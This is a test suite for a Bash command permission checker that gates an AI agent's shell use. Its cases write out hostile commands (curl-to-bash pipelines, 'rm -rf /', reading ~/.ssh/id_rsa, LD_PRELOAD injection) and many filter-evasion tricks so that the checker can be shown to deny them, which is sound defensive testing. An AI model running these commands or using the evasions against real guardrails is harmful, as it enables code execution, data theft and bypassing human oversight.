// The Bash judge (src/policy/builtin/bash.ts): rule forms, compound commands, wrappers, assignments,
// the fail-closed paths, pipe patterns, file rules and the verdict's fields.
import assert from "node:assert/strict";
import { posix } from "node:path";
import { describe, it } from "node:test";
import { compileBashRules } from "../../src/policy/builtin/bash.js";
import type { BuiltinContext, BuiltinRule, BuiltinVerdict, FileAccess, FileJudge } from "../../src/policy/builtin/types.js";
import { PolicyError } from "../../src/policy/rules.js";
import type { Source } from "../../src/policy/types.js";

const CTX: BuiltinContext = { cwd: "/home/user/project", workingDirectories: ["/home/user/project"], mode: "default" };

function src(path: string): Source {
  return { layer: "project", file: "/home/user/project/.mcp-warden/settings.json", path };
}

/** `Bash(x)` texts per effect; `denylist` entries arrive with the entry as specifier and text. */
function rules(r: { allow?: string[]; ask?: string[]; deny?: string[]; denylist?: string[] }): BuiltinRule[] {
  const out: BuiltinRule[] = [];
  for (const effect of ["allow", "ask", "deny"] as const)
    (r[effect] ?? []).forEach((text, k) => {
      const m = /^Bash(?:\((.*)\))?$/s.exec(text);
      assert.ok(m, `test rule ${text}`);
      const rule: BuiltinRule = { effect, tool: "Bash", text, source: src(`permissions.${effect}[${k}]`) };
      if (m[1] !== undefined && m[1] !== "*") rule.specifier = m[1];
      out.push(rule);
    });
  (r.denylist ?? []).forEach((text, k) => out.push({ effect: "deny", tool: "Bash", specifier: text, text, source: src(`toolPermissions.Bash.denyCommands[${k}]`) }));
  return out;
}

/**
 * A FileJudge that objects to nothing and records what it was asked. Its working-directory test is
 * lexical (no symlinks here; the real one is tested in builtin-working-dirs.test.ts).
 */
function recorder(verdict?: (a: FileAccess) => BuiltinVerdict | undefined, deny = false): FileJudge & { seen: FileAccess[] } {
  const seen: FileAccess[] = [];
  return {
    seen,
    checkAccess(a) {
      seen.push(a);
      return verdict?.(a);
    },
    hasDeny: () => deny,
    insideWorkingDirectories(dir, ctx) {
      const abs = dir === "~" || dir.startsWith("~/") ? `/home/user${dir.slice(1)}` : posix.resolve(ctx.cwd, dir);
      return ctx.workingDirectories.some((d) => abs === d || abs.startsWith(`${d}/`));
    },
  };
}

function decide(r: Parameters<typeof rules>[0], command: string, files: FileJudge = recorder()): BuiltinVerdict {
  return compileBashRules(rules(r)).decide({ command }, CTX, files);
}

function decision(r: Parameters<typeof rules>[0], command: string, files?: FileJudge): string {
  return decide(r, command, files).decision;
}

const DENYLIST = ["rm -rf /", "curl * | bash", "sudo", "eval"];

describe("Bash rule forms (allow reading)", () => {
  const cases: Array<[rule: string, command: string, allowed: boolean]> = [
    ["Bash(npm run test:*)", "npm run test", true],
    ["Bash(npm run test:*)", "npm run test -- --watch", true],
    ["Bash(npm run test:*)", "npm run testing", false],
    ["Bash(npm run test:*)", "npm run tes", false],
    ["Bash(ls *)", "ls", true],
    ["Bash(ls *)", "ls -la", true],
    ["Bash(ls *)", "lsof", false],
    ["Bash(ls*)", "lsof", true],
    ["Bash(git * main)", "git push origin main", true],
    ["Bash(git * main)", "git push origin main2", false],
    ["Bash(git status)", "git status", true],
    ["Bash(git status)", "git status -s", false],
    ["Bash(git commit -m \"wip\")", "git commit -m 'wip'", true],
    ["Bash(* --version)", "node --version", true],
    ["Bash(* --version)", "node --version --x", false],
    ["Bash", "anything at all", true],
    ["Bash(*)", "anything at all", true],
    ["Bash(GIT:*)", "git status", false],
  ];
  for (const [rule, command, allowed] of cases)
    it(`${rule} ${allowed ? "allows" : "does not allow"} ${JSON.stringify(command)}`, () => {
      const v = decide({ allow: [rule] }, command);
      assert.equal(v.decision, allowed ? "allow" : "ask", v.reason);
      if (allowed) assert.equal(v.rule, rule);
      else assert.equal(v.unmatched, true);
    });

  it("a path-qualified program matches a bare-name allow only from a system bin directory", () => {
    assert.equal(decision({ allow: ["Bash(ls:*)"] }, "/bin/ls -la"), "allow");
    assert.equal(decision({ allow: ["Bash(ls:*)"] }, "/usr/local/bin/ls"), "allow");
    assert.equal(decision({ allow: ["Bash(ls:*)"] }, "./ls -la"), "ask");
    assert.equal(decision({ allow: ["Bash(ls:*)"] }, "/tmp/ls"), "ask");
    assert.equal(decision({ allow: ["Bash(./build.sh:*)"] }, "./build.sh --fast"), "allow");
  });

  it("quote removal and escapes are judged as bash runs the words", () => {
    assert.equal(decision({ allow: ["Bash(git status:*)"] }, "g'i't \\status"), "allow");
    assert.equal(decision({ allow: ["Bash(git status:*)"] }, "{git,status}"), "allow");
  });
});

describe("Bash rule forms (deny reading)", () => {
  const cases: Array<[rule: string, command: string, denied: boolean]> = [
    ["Bash(curl:*)", "curl https://x", true],
    ["Bash(curl:*)", "CURL https://x", true],
    ["Bash(curl:*)", "/usr/bin/curl https://x", true],
    ["Bash(curl:*)", "curling", false],
    ["Bash(curl:*)", "echo curl", false],
    ["rm -rf /", "rm -rf /", true],
    ["rm -rf /", "rm -fr /", true],
    ["rm -rf /", "rm -r -f /", true],
    ["rm -rf /", "rm -Rf /", true],
    ["rm -rf /", "rm --recursive --force /", true],
    ["rm -rf /", "rm -rf //", true],
    ["rm -rf /", "rm -rf /.", true],
    ["rm -rf /", "rm -rf / --no-preserve-root", true],
    ["rm -rf /", "rm -rf --no-preserve-root /", true],
    ["rm -rf /", "rm -rf /*", true],
    ["rm -rf /", "rm -rf $DIR", true],
    ["rm -rf /", "rm -rf /tmp/build", false],
    // The rule's intent, recursive deletion of / (bash-intent.ts): without a terminal rm -r does not prompt.
    ["rm -rf /", "rm -r /", true],
    ["rm -rf /", "rm -rf ./build", false],
    ["rm -rf /", "echo x | xargs rm -rf", true],
    ["rm -rf /", "find / -maxdepth 0 -exec rm -rf {} ;", true],
    ["sudo", "sudo -E id", true],
    ["sudo", "FOO=1 sudo id", true],
    ["sudo", "apt-cache policy sudo", false],
    ["Bash(git push:*)", "git -C repo push origin", true],
    ["Bash(git push:*)", "git status", false],
    ["Bash(git push --force:*)", "git push origin main --force", true],
    ["Bash(git push --force:*)", "git push origin main", false],
    ["Bash(rm --no-preserve-root:*)", "rm --no-preserve /", true],
    ["Bash(* --version)", "node --version", true],
  ];
  for (const [rule, command, denied] of cases)
    it(`${rule} ${denied ? "denies" : "does not deny"} ${JSON.stringify(command)}`, () => {
      const r = rule.startsWith("Bash") ? { deny: [rule], allow: ["Bash"] } : { denylist: [rule], allow: ["Bash"] };
      const v = decide(r, command);
      if (denied) {
        assert.equal(v.decision, "deny", v.reason);
        assert.equal(v.rule, rule);
      } else assert.notEqual(v.decision, "deny", v.reason);
    });

  it("ask rules use the deny reading and win over allow rules", () => {
    const v = decide({ ask: ["Bash(git push:*)"], allow: ["Bash(git:*)"] }, "git -c x=1 push");
    assert.equal(v.decision, "ask");
    assert.equal(v.rule, "Bash(git push:*)");
    assert.equal(v.unmatched, undefined);
  });

  it("deny wins over ask and allow", () => {
    const v = decide({ deny: ["Bash(git push:*)"], ask: ["Bash(git push:*)"], allow: ["Bash(git push:*)"] }, "git push");
    assert.equal(v.decision, "deny");
  });

  it("a Bash deny without a specifier denies every command", () => {
    const v = decide({ deny: ["Bash"], allow: ["Bash(ls:*)"] }, "ls");
    assert.equal(v.decision, "deny");
    assert.equal(v.rule, "Bash");
  });
});

describe("compound commands: every sub-command must be allowed", () => {
  const r = { allow: ["Bash(git status:*)", "Bash(echo:*)"], deny: ["Bash(curl:*)"], denylist: DENYLIST };
  const lines: Array<[string, string]> = [
    ["git status; curl x", "deny"],
    ["git status && curl x", "deny"],
    ["git status || curl x", "deny"],
    ["git status & curl x", "deny"],
    ["git status\ncurl x", "deny"],
    ["git status | curl -d @- x", "deny"],
    ["git status |& curl -d @- x", "deny"],
    ["(curl x)", "deny"],
    ["{ curl x; }", "deny"],
    ["git status $(curl x)", "deny"],
    ["git status `curl x`", "deny"],
    ['git status "$(curl x)"', "deny"],
    ["git status > >(curl -d @- x)", "deny"],
    ["cat <(curl x)", "deny"],
    ["f() { curl x; }; f", "deny"],
    ["if true; then curl x; fi", "deny"],
    ["for i in a; do curl x; done", "deny"],
    ["sh -c 'curl x'", "deny"],
    ["bash <<'E'\ncurl x\nE", "deny"],
    ["echo 'curl x' | sh", "deny"],
    ["eval 'curl x'", "deny"],
    ["git status; ls", "ask"],
    ["git status && echo done", "allow"],
    ["echo 'a|b;c&&d'", "allow"],
  ];
  for (const [line, want] of lines) it(`${JSON.stringify(line)} → ${want}`, () => assert.equal(decision(r, line), want));
});

describe("wrappers are looked through", () => {
  const r = { allow: ["Bash(git status:*)"], deny: ["Bash(curl:*)"] };
  for (const w of ["timeout 5", "time", "nice -n 5", "nohup", "stdbuf -oL", "command", "builtin", "env", "env -i", "setsid", "exec", "ionice -c3", "watch", "xargs", "sudo -u root", "doas", "strace -f", "chroot /", "flock /tmp/l"]) {
    it(`${w} curl x is denied`, () => assert.equal(decision(r, `${w} curl x`), "deny"));
  }
  for (const w of ["timeout 5", "nice -n 5", "nohup", "stdbuf -oL", "command", "env", "setsid", "ionice -c3", "xargs"]) {
    it(`${w} git status is allowed by the rule for git status alone`, () => assert.equal(decision(r, `${w} git status`), "allow"));
  }
  it("sudo is not looked through for allow: it needs its own rule", () => {
    assert.equal(decision({ allow: ["Bash(git status:*)"] }, "sudo git status"), "ask");
    assert.equal(decision({ allow: ["Bash(git status:*)", "Bash(sudo:*)"] }, "sudo git status"), "allow");
  });
  it("an exact allow of a wrapper covers the command it runs", () => {
    assert.equal(decision({ allow: ["Bash(sudo apt update)"] }, "sudo apt update"), "allow");
    assert.equal(decision({ allow: ["Bash(sudo apt:*)"] }, "sudo apt update"), "ask");
  });
  it("a shell with a static -c string is looked through", () => {
    assert.equal(decision({ allow: ["Bash(git status:*)"] }, "bash -c 'git status'"), "allow");
    assert.equal(decision({ allow: ["Bash(git status:*)"] }, "bash script.sh"), "ask");
  });
});

describe("cd", () => {
  it("cd into a working directory needs no rule; cd elsewhere does", () => {
    assert.equal(decision({ allow: ["Bash(npm test:*)"] }, "cd src && npm test"), "allow");
    assert.equal(decision({ allow: ["Bash(npm test:*)"] }, "cd /home/user/project/packages/a && npm test"), "allow");
    assert.equal(decision({ allow: ["Bash(npm test:*)"] }, "cd .. && npm test"), "ask");
    assert.equal(decision({ allow: ["Bash(npm test:*)"] }, "cd ~ && npm test"), "ask");
    assert.equal(decision({ allow: ["Bash(npm test:*)"] }, 'cd "$D" && npm test'), "ask");
  });
  it("cd outside the working directories asks even under a blanket Bash allow, naming the directory", () => {
    for (const c of ["cd /tmp", "cd ..", "cd", "cd ~/.ssh", "(cd /etc && ls)", "pushd /tmp", "command cd /tmp", "cd -P /tmp", "ls; cd /tmp && ls"]) {
      const v = decide({ allow: ["Bash"] }, c);
      assert.equal(v.decision, "ask", c);
      assert.match(v.reason, /not inside the working directories/, c);
    }
  });
  it("cd to a directory known only at run time asks under a blanket Bash allow", () => {
    for (const c of ["cd -", 'cd "$D"', "pushd +1", "popd", "pushd", "cd a b", "cd -x"]) assert.equal(decision({ allow: ["Bash"] }, c), "ask", c);
  });
  it("cd into a working directory, in any spelling bash accepts, needs no rule", () => {
    for (const c of ["cd src", "cd -- src", "cd -P src", "pushd src", "cd /home/user/project", "cd ./src/../lib"]) assert.equal(decision({}, c), "allow", c);
  });
  it("an allow rule without * that names the cd waives the ask; a wildcard one does not", () => {
    assert.equal(decision({ allow: ["Bash(cd /tmp/build)"] }, "cd /tmp/build"), "allow");
    assert.equal(decision({ allow: ["Bash(cd:*)"] }, "cd /tmp/build"), "ask");
  });
  it("a file judge that cannot tell where a directory is makes every cd ask", () => {
    const blind: FileJudge = { checkAccess: () => undefined, hasDeny: () => false };
    assert.equal(decision({ allow: ["Bash"] }, "cd src", blind), "ask");
  });
});

describe("leading assignments", () => {
  const r = { allow: ["Bash(git status:*)"], deny: ["Bash(curl:*)"] };
  for (const a of ["LANG=C", "LC_ALL=C.UTF-8", "TZ=UTC", "NO_COLOR=1", "TERM=dumb"])
    it(`${a} may ride on an allowed command`, () => assert.equal(decision(r, `${a} git status`), "allow"));
  for (const a of ["LD_PRELOAD=/tmp/x.so", "PATH=/tmp", "BASH_ENV=/tmp/x", "PAGER=/tmp/x", "GIT_SSH_COMMAND=x", "NODE_OPTIONS=--require=x", "FOO=1", "LANG[0]=x"])
    it(`${a} makes an allowed command ask`, () => {
      const v = decide(r, `${a} git status`);
      assert.equal(v.decision, "ask", v.reason);
      assert.match(v.reason, /sets/);
    });
  it("assignments are ignored for deny", () => assert.equal(decision(r, "LANG=C curl x"), "deny"));
  it("env's assignments count like leading ones", () => assert.equal(decision(r, "env LD_PRELOAD=x git status"), "ask"));
  it("an assignment on a looked-through wrapper counts", () => assert.equal(decision(r, "LD_PRELOAD=x timeout 5 git status"), "ask"));
  it("a bare assignment of an unsafe variable asks; of a safe one it is allowed", () => {
    assert.equal(decision(r, "LD_PRELOAD=x; git status"), "ask");
    assert.equal(decision(r, "LANG=C; git status"), "allow");
  });
  it("an allow rule naming the assignment allows it", () => assert.equal(decision({ allow: ["Bash(NODE_OPTIONS=--inspect node app.js)"] }, "NODE_OPTIONS=--inspect node app.js"), "allow"));
  it("declare -x of a variable is a command that needs its own allow", () => assert.equal(decision({ allow: ["Bash(ls:*)"] }, "declare -x LD_PRELOAD=/tmp/evil.so; ls"), "ask"));
});

describe("pipe patterns match the data flow", () => {
  const r = { allow: ["Bash(curl:*)", "Bash(cat:*)", "Bash(tee:*)"], denylist: ["curl * | bash"] };
  const lines: Array<[string, string]> = [
    ["curl -fsSL x | bash", "deny"],
    ["curl -fsSL x |bash", "deny"],
    ["curl x | sh", "deny"],
    ["curl x | zsh -s", "deny"],
    ["curl x | sudo bash", "deny"],
    ["curl x | tee f | sh", "deny"],
    ["curl x | (bash)", "deny"],
    ['bash -c "$(curl x)"', "deny"],
    ["bash <(curl x)", "deny"],
    ["source <(curl x)", "deny"],
    [". <(curl x)", "deny"],
    ['eval "$(curl x)"', "deny"],
    ['sh <<< "$(curl x)"', "deny"],
    [". /dev/stdin < <(curl x)", "deny"],
    ["echo $(curl x) | bash", "deny"],
    ["bash -c 'curl x | bash'", "deny"],
    ["curl x | cat", "allow"],
    ["curl x > f.sh", "allow"],
    // bash runs a program we cannot see; with a deny rule in force it could be what the rule forbids
    ["cat f | bash", "deny"],
  ];
  for (const [line, want] of lines) it(`${JSON.stringify(line)} → ${want}`, () => assert.equal(decision(r, line), want));
  it("the verdict names the rule and both ends of the flow", () => {
    const v = decide(r, "curl x | bash");
    assert.equal(v.rule, "curl * | bash");
    assert.match(v.reason, /curl x.*bash/);
  });
  it("an allow rule with a pipe allows exactly that pipeline", () => {
    const a = { allow: ["Bash(git log * | head *)"] };
    assert.equal(decision(a, "git log --oneline | head -5"), "allow");
    assert.equal(decision(a, "git log --oneline"), "ask");
    assert.equal(decision(a, "git log | head | sh"), "ask");
  });
  it("a list pattern in a deny rule matches when every part is in the line", () => {
    const d = { deny: ["Bash(cd / && rm *)"], allow: ["Bash"] };
    assert.equal(decision(d, "cd / && rm -rf x"), "deny");
    assert.equal(decision(d, "cd src; ls"), "allow");
  });
});

describe("what cannot be resolved is never allowed", () => {
  it("a dynamic command name asks without deny rules and is denied with one", () => {
    assert.equal(decision({ allow: ["Bash"] }, "$CMD x"), "ask");
    const v = decide({ allow: ["Bash"], deny: ["Bash(curl:*)"] }, "$CMD x");
    assert.equal(v.decision, "deny");
    assert.equal(v.rule, "Bash(curl:*)");
  });
  it("a non-static shell string or eval is never allowed", () => {
    assert.equal(decision({ allow: ["Bash"] }, 'bash -c "$X"'), "ask");
    assert.equal(decision({ allow: ["Bash"] }, 'eval "$X"'), "ask");
  });
  it("a parse error asks, or denies when its text names a denied program", () => {
    const v1 = decide({ allow: ["Bash"], deny: ["Bash(curl:*)"] }, "echo 'unterminated");
    assert.equal(v1.decision, "ask", v1.reason);
    const v2 = decide({ allow: ["Bash"], deny: ["Bash(curl:*)"] }, "c'u'rl x 'unterminated");
    assert.equal(v2.decision, "deny", v2.reason);
    assert.equal(v2.rule, "Bash(curl:*)");
  });
  it("a parse error inside a shell string is judged by that string", () => {
    assert.equal(decision({ allow: ["Bash"], deny: ["Bash(curl:*)"] }, "sh -c 'curl x \"'"), "deny");
    assert.equal(decision({ allow: ["Bash"], deny: ["Bash(curl:*)"] }, "sh -c 'ls \"'"), "ask");
  });
  it("code hidden in a variable's value denies only when the line names a denied program", () => {
    assert.equal(decision({ allow: ["Bash"], deny: ["Bash(curl:*)"] }, "for i in 1 2; do echo $((i*2)); done"), "ask");
    assert.equal(decision({ allow: ["Bash"], deny: ["Bash(curl:*)"] }, "x='a[$(curl evil)]'; echo $((x))"), "deny");
  });
  it("a command over 10,000 characters is never allowed", () => {
    const long = `echo ${"a".repeat(10_001)}`;
    assert.equal(decision({ allow: ["Bash"] }, long), "ask");
    assert.equal(decision({ allow: ["Bash"], deny: ["Bash(curl:*)"] }, `${long}; curl x`), "deny");
  });
  it("a line with thousands of commands is judged to its last command", () => {
    const line = `${Array(2000).fill("cat").join(" | ")}; curl x`;
    assert.equal(decision({ allow: ["Bash(cat:*)"], deny: ["Bash(curl:*)"] }, line), "deny");
    assert.equal(decision({ allow: ["Bash(cat:*)"] }, line), "ask");
  });
  it("an alias definition is unresolved", () => assert.equal(decision({ allow: ["Bash"], deny: ["Bash(curl:*)"] }, "alias c=curl; c x"), "deny"));
});

describe("file access goes to the FileJudge", () => {
  const deny = (pred: (a: FileAccess) => boolean): FileJudge & { seen: FileAccess[] } =>
    recorder((a) => (pred(a) ? { decision: "deny", reason: "denied by Read(.env)", rule: "Read(.env)", source: src("permissions.deny[0]") } : undefined), true);

  it("a denied read denies the line, naming the file rule", () => {
    const v = decide({ allow: ["Bash(cat:*)"] }, "cat .env", deny((a) => a.path === ".env"));
    assert.equal(v.decision, "deny");
    assert.equal(v.rule, "Read(.env)");
    assert.deepEqual(v.source, src("permissions.deny[0]"));
  });
  it("an ask verdict makes the line ask and keeps keepAsk", () => {
    const f = recorder((a) => (a.access === "write" ? { decision: "ask", reason: "protected", keepAsk: true } : undefined));
    const v = decide({ allow: ["Bash(echo:*)"] }, "echo x > ~/.bashrc", f);
    assert.equal(v.decision, "ask");
    assert.equal(v.keepAsk, true);
    assert.equal(v.unmatched, undefined);
  });
  it("a path known only at run time is denied when a deny rule governs that access", () => {
    assert.equal(decision({ allow: ["Bash(cat:*)"] }, 'cat "$F"', recorder(undefined, true)), "deny");
    assert.equal(decision({ allow: ["Bash(cat:*)"] }, 'cat "$F"', recorder(undefined, false)), "allow");
  });
  it("a relative path after cd is also checked under the new directory", () => {
    const f = recorder();
    decide({ allow: ["Bash"] }, "cd ~ && cat .ssh/id_rsa", f);
    assert.ok(f.seen.some((a) => a.path === "~/.ssh/id_rsa"), JSON.stringify(f.seen));
  });
  it("$HOME is ~ when the line does not set HOME", () => {
    const f = recorder();
    decide({ allow: ["Bash"] }, "cat $HOME/.ssh/id_rsa", f);
    assert.deepEqual(f.seen.map((a) => [a.path, a.kind]), [["~/.ssh/id_rsa", "literal"]]);
    const g = recorder();
    decide({ allow: ["Bash"] }, "HOME=/tmp; cat $HOME/x", g);
    assert.deepEqual(g.seen.map((a) => a.kind), ["unknown"]);
  });
  it("find -exec {} and xargs fed by find read what find selects", () => {
    const f = recorder();
    decide({ allow: ["Bash"] }, "find . -name .env -exec cat {} \\;", f);
    assert.deepEqual(f.seen.map((a) => [a.path, a.kind]), [["./**/.env", "glob"]]);
    const g = recorder();
    decide({ allow: ["Bash"] }, "find src -type f -name '*.ts' -print0 | xargs -0 grep -l foo", g);
    assert.deepEqual(g.seen.map((a) => [a.path, a.kind]), [["src/**/*.ts", "glob"]]);
  });
  it("opaque code mentioning a denied path is denied", () => {
    const v = decide({ allow: ["Bash(python3 -c \"print(open('.env').read())\")"] }, "python3 -c \"print(open('.env').read())\"", deny((a) => a.path === ".env"));
    assert.equal(v.decision, "deny");
  });
  it("redirections of compound commands are seen", () => {
    for (const line of ["{ cat; } < .env", "while read l; do echo $l; done < .env", "(cat) < .env"])
      assert.equal(decision({ allow: ["Bash"] }, line, deny((a) => a.path === ".env")), "deny", line);
  });
});

describe("more ways to hide a command", () => {
  const r = { allow: ["Bash(git:*)", "Bash(python3:*)", "Bash(node:*)", "Bash(docker:*)"], deny: ["Bash(curl:*)"] };
  const lines: Array<[string, string]> = [
    ["GIT_SSH_COMMAND='curl x' git fetch", "deny"],
    ["export PAGER='curl x'; git log", "deny"],
    ["PAGER=less git log", "ask"],
    ["python3 - <<'EOF'\nimport os\nos.system('curl x')\nEOF", "deny"],
    ["python3 - <<'EOF'\nprint(1)\nEOF", "ask"],
    ["node <<< \"require('child_process').execSync('curl x')\"", "deny"],
    ["python3 -c 'import subprocess,sys; subprocess.run(sys.argv[1:])' curl x", "deny"],
    ["docker run --rm -e A=1 -v /:/h alpine sh -c 'curl x'", "deny"],
    ["docker run --rm alpine id", "ask"],
    ["docker ps", "allow"],
    ["hash -p /usr/bin/curl c; c x", "deny"],
    ["enable -f ./x.so curl", "deny"],
    ["TIMEOUT 5 curl x", "deny"],
    ["BASH -c 'curl x'", "deny"],
    ["{c,}url x", "deny"],
    ["c$@url x", "deny"],
    ["parallel curl ::: a b", "deny"],
    ["script -qc 'curl x' /dev/null", "deny"],
    ["trap 'curl x' EXIT", "deny"],
  ];
  for (const [line, want] of lines) it(`${JSON.stringify(line)} → ${want}`, () => assert.equal(decision(r, line), want));
});

describe("the verdict", () => {
  it("names the deciding rule's text and source", () => {
    const v = decide({ deny: ["Bash(curl:*)"] }, "curl x");
    assert.equal(v.rule, "Bash(curl:*)");
    assert.deepEqual(v.source, src("permissions.deny[0]"));
    assert.match(v.reason, /curl x/);
  });
  it("an allowed line names the rule of its first command", () => {
    const v = decide({ allow: ["Bash(git log:*)", "Bash(grep:*)"] }, "git log | grep fix");
    assert.equal(v.decision, "allow");
    assert.equal(v.rule, "Bash(git log:*)");
    assert.deepEqual(v.source, src("permissions.allow[0]"));
  });
  it("unmatched is set only when no rule decided", () => {
    assert.equal(decide({}, "ls").unmatched, true);
    assert.equal(decide({ ask: ["Bash(ls:*)"] }, "ls").unmatched, undefined);
  });
  it("a missing or non-string command is denied, not thrown", () => {
    const p = compileBashRules(rules({ allow: ["Bash"] }));
    assert.equal(p.decide({}, CTX, recorder()).decision, "deny");
    assert.equal(p.decide({ command: 42 }, CTX, recorder()).decision, "deny");
  });
  it("an exception in a dependency fails closed to deny", () => {
    const throwing: FileJudge = {
      checkAccess() {
        throw new Error("boom");
      },
      hasDeny: () => false,
    };
    const v = compileBashRules(rules({ allow: ["Bash"] })).decide({ command: "cat x" }, CTX, throwing);
    assert.equal(v.decision, "deny");
    assert.match(v.reason, /boom/);
  });
  it("an empty command asks", () => assert.equal(decision({ allow: ["Bash"] }, "   # nothing"), "ask"));
});

describe("invalid patterns", () => {
  const bad = ["Bash(echo 'unterminated)", "Bash(ls > out.txt)", "Bash(if true; then ls; fi)", "Bash(:*)"];
  for (const text of bad)
    it(`${text} is a PolicyError naming the rule and its source`, () => {
      assert.throws(
        () => compileBashRules(rules({ deny: [text] })),
        (e: unknown) => e instanceof PolicyError && e.rule === text && e.message.includes("permissions.deny[0]") && e.source?.path === "permissions.deny[0]",
      );
    });
  it("an allow rule joining commands with && is a PolicyError", () => {
    assert.throws(() => compileBashRules(rules({ allow: ["Bash(cd x && make)"] })), PolicyError);
  });
  it("fd duplications and /dev/null in a pattern are ignored", () => {
    assert.equal(decision({ allow: ["Bash(npm test 2>&1)"] }, "npm test"), "allow");
    assert.equal(decision({ allow: ["Bash(npm test > /dev/null)"] }, "npm test"), "allow");
  });
  it("rules of other tools are ignored", () => {
    const p = compileBashRules([{ effect: "deny", tool: "Read", specifier: "(((", text: "Read(((()", source: src("x") }]);
    assert.equal(p.decide({ command: "ls" }, CTX, recorder()).decision, "ask");
  });
});
